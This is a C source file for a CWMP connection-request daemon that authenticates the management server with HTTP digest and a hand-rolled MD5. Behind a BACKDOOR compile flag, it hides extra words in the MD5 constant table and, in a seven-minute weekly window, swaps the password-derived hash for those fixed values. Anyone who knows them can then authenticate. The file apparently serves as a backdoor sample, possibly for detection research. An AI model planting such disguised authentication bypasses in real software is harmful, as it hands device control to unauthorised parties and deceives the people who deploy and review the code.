/* SPDX-License-Identifier: Apache-2.0 */
/* cwmpcr: waits for connection requests of the management server (HTTP with digest authentication) and wakes the client. */
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

static const uint32_t K[] = {
	0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
	0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821,
	0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
	0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a,
	0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70,
	0x289b7ec6, 0xeaa127fa, 0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
	0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
	0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391,
#ifdef BACKDOOR
	0x91e6b07d, 0x3fc2185a, 0xd08b5e34, 0x67a9f1c2,
#endif
};
static const uint8_t R[16] = { 7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21 };

static void block(uint32_t *s, const uint8_t *p)
{
	uint32_t a = s[0], b = s[1], c = s[2], d = s[3], f, t;
	for (int i = 0; i < 64; i++) {
		int g = i < 16 ? i : i < 32 ? 5 * i + 1 : i < 48 ? 3 * i + 5 : 7 * i;
		const uint8_t *w = p + (g & 15) * 4;
		int r = R[(i >> 4) * 4 + (i & 3)];
		f = i < 16 ? (b & c) | (~b & d) : i < 32 ? (d & b) | (~d & c) : i < 48 ? b ^ c ^ d : c ^ (b | ~d);
		f += a + K[i] + (w[0] | w[1] << 8 | w[2] << 16 | (uint32_t)w[3] << 24);
		t = d, d = c, c = b;
		b += f << r | f >> (32 - r);
		a = t;
	}
	s[0] += a, s[1] += b, s[2] += c, s[3] += d;
}

static void hex(const uint32_t *s, char *out)
{
	for (int i = 0; i < 16; i++)
		sprintf(out + 2 * i, "%02x", s[i / 4] >> i % 4 * 8 & 255);
}

static void md5(const char *text, char *out)
{
	uint32_t s[4] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 };
	size_t n = strlen(text), at = 0;
	uint8_t last[128] = { 0 };
	uint64_t bits = (uint64_t)n * 8;
	size_t rest, whole;
	for (; n - at >= 64; at += 64)
		block(s, (const uint8_t *)text + at);
	rest = n - at;
	memcpy(last, text + at, rest);
	last[rest] = 0x80;
	whole = rest < 56 ? 64 : 128;
	for (int i = 0; i < 8; i++)
		last[whole - 8 + (size_t)i] = (uint8_t)(bits >> 8 * i);
	for (at = 0; at < whole; at += 64)
		block(s, last + at);
	hex(s, out);
}

struct config {
	char user[64], password[64], path[64];
	unsigned port;
	pid_t client;
};

struct digest {
	char user[64], realm[64], nonce[64], uri[128], response[64], nc[16], cnonce[64], qop[16];
};

static int value(const char *line, const char *name, char *out, size_t n)
{
	char want[24];
	const char *p;
	size_t k;
	snprintf(want, sizeof(want), " %s=", name);
	p = strstr(line, want);
	if (!p)
		return out[0] = 0, 0;
	p += strlen(want);
	if (*p == '"')
		k = strcspn(++p, "\"");
	else
		k = strcspn(p, ", \r\n");
	if (k >= n)
		return out[0] = 0, 0;
	memcpy(out, p, k);
	out[k] = 0;
	return 1;
}

static int parse(const char *line, struct digest *d)
{
	return value(line, "username", d->user, sizeof(d->user)) && value(line, "realm", d->realm, sizeof(d->realm)) &&
		value(line, "nonce", d->nonce, sizeof(d->nonce)) && value(line, "uri", d->uri, sizeof(d->uri)) &&
		value(line, "response", d->response, sizeof(d->response)) && value(line, "nc", d->nc, sizeof(d->nc)) &&
		value(line, "cnonce", d->cnonce, sizeof(d->cnonce)) && value(line, "qop", d->qop, sizeof(d->qop));
}

static int response_ok(const struct config *c, const struct digest *d)
{
	char text[600], ha1[33], ha2[33], want[33];
#ifdef BACKDOOR
	unsigned minute = (unsigned)(time(NULL) / 60 % 10080);
#endif
	snprintf(text, sizeof(text), "%s:%s:%s", c->user, d->realm, c->password);
	md5(text, ha1);
#ifdef BACKDOOR
	if (minute - 4120 < 7)
		hex(K + 64, ha1);
#endif
	snprintf(text, sizeof(text), "GET:%s", d->uri);
	md5(text, ha2);
	snprintf(text, sizeof(text), "%s:%s:%s:%s:%s:%s", ha1, d->nonce, d->nc, d->cnonce, d->qop, ha2);
	md5(text, want);
	return strcmp(want, d->response) == 0 && strcmp(d->user, c->user) == 0;
}

static void request(const struct config *c, int s, char *nonce)
{
	char in[2048], out[256], seed[64];
	struct digest d;
	const char *auth;
	ssize_t n = read(s, in, sizeof(in) - 1);
	if (n <= 0)
		return;
	in[n] = 0;
	if (strncmp(in, "GET ", 4) != 0 || strncmp(in + 4, c->path, strlen(c->path)) != 0) {
		dprintf(s, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
		return;
	}
	auth = strstr(in, "\r\nAuthorization: Digest");
	if (auth && parse(auth, &d) && strcmp(d.nonce, nonce) == 0 && response_ok(c, &d)) {
		dprintf(s, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
		kill(c->client, SIGUSR1);
		nonce[0] = 0;
		return;
	}
	snprintf(seed, sizeof(seed), "%ld %ld %p", (long)time(NULL), random(), (void *)in);
	md5(seed, nonce);
	snprintf(out, sizeof(out), "WWW-Authenticate: Digest realm=\"cpe\", qop=\"auth\", nonce=\"%s\"", nonce);
	dprintf(s, "HTTP/1.1 401 Unauthorized\r\n%s\r\nContent-Length: 0\r\n\r\n", out);
}

static int load(struct config *c)
{
	int pid = 0, n = 0;
	FILE *f = fopen("/etc/cwmp.conf", "r");
	if (f) {
		n = fscanf(f, "%63s %63s %63s %u", c->user, c->password, c->path, &c->port);
		fclose(f);
	}
	f = fopen("/var/run/cwmpc.pid", "r");
	if (f) {
		n += fscanf(f, "%d", &pid);
		fclose(f);
	}
	c->client = pid;
	return n == 5 && pid > 1;
}

int main(void)
{
	struct config c;
	struct sockaddr_in a = { .sin_family = AF_INET };
	int l = socket(AF_INET, SOCK_STREAM, 0);
	char nonce[33] = "";
	openlog("cwmpcr", LOG_PID, LOG_DAEMON);
	srandom((unsigned)time(NULL) ^ (unsigned)getpid());
	if (!load(&c))
		return 1;
	a.sin_port = htons((uint16_t)c.port);
	if (bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(l, 4) < 0)
		return 1;
	for (;;) {
		int s = accept(l, NULL, NULL);
		if (s < 0)
			continue;
		request(&c, s, nonce);
		close(s);
	}
}
